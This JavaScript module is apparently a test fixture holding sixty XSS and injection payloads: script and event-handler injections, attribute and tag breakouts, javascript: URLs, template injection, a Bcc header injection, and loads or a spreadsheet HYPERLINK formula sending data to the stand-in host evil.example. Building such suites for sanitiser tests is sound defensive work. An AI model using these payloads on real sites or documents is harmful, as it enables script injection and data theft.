// Sixty ways in which text tries to become something else. Each calls __xss(), which only the
// browser of the test has, or fetches from evil.example, which nothing may.
const run = '__xss()';
export const payloads = [
  // elements
  `<script>${run}</script>`, `<ScRiPt>${run}</sCrIpT>`, `<script src=//evil.example/a.js></script>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<script x>${run}</script y>`,
  `<img src=x onerror=${run}>`, `<img/src="x"/onerror=${run}>`, `<IMG SRC="https://evil.example/p.gif">`, `<img src=//evil.example/p.gif>`, `<img srcset="//evil.example/p.gif 2x">`,
  `<svg onload=${run}>`, `<svg/onload=${run}//`, `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`, `<details open ontoggle=${run}>`, `<video><source onerror=${run}></video>`, `<body onload=${run}>`, `<input autofocus onfocus=${run}>`,
  `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`, `<object data="data:text/html,<script>${run}</script>">`, `<embed src=//evil.example/e.swf>`, `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`, `<link rel=stylesheet href=//evil.example/s.css>`, `<form action=//evil.example/><button>x</button></form>`, `<template><img src=x onerror=${run}></template>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  // out of attributes, comments, titles, scripts
  `"><script>${run}</script>`, `'><img src=x onerror=${run}>`, `" onmouseover="${run}" style="position:fixed;inset:0" x="`, `' onfocus='${run}' autofocus='`, `--><svg onload=${run}>`,
  `</title><script>${run}</script>`, `</textarea><img src=x onerror=${run}>`, `</style><script>${run}</script>`, `</script><script>${run}</script>`, `<!--<script>${run}//-->`,
  // out of data: JSON in a script, lines that only look like one
  `"}</script><script>${run}</script>`, `\u2028${run}\u2029`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`, `<!--boot--><script>${run}</script>`, `]]><script>${run}</script>`,
  // addresses
  `javascript:${run}`, `JaVaScRiPt:${run}//https://toko.example`, `\u0001javascript:${run}`, `java\tscript:${run}`, `data:text/html,<script>${run}</script>`, `vbscript:${run}`, `//evil.example/x`, `https://evil.example@toko.example/"onclick="${run}`,
  // templates, style, marks, mail, numbers that are text
  `{{constructor.constructor('${run}')()}}`, '${' + run + '}', `x{background:url(//evil.example/c.png)}`, `[klik](javascript:${run}) ![p](https://evil.example/m.png)`, `a\r\nBcc: semua@evil.example\r\n\r\n<script>${run}</script>`, `＜script＞${run}＜/script＞\u202e>tpircs<`, `=HYPERLINK("https://evil.example/?"&A1)`,
];
if (payloads.length !== 60 || new Set(payloads).size !== 60) throw new Error(`${payloads.length} payloads`);

/** All of them in as few texts of at most `most` characters as possible, whole ones only. */
export function packed(most) {
  const out = [];
  for (const one of payloads) {
    if (one.length > most) continue;
    const last = out.at(-1);
    if (last !== undefined && last.length + 1 + one.length <= most) out[out.length - 1] = `${last} ${one}`;
    else out.push(one);
  }
  return out;
}
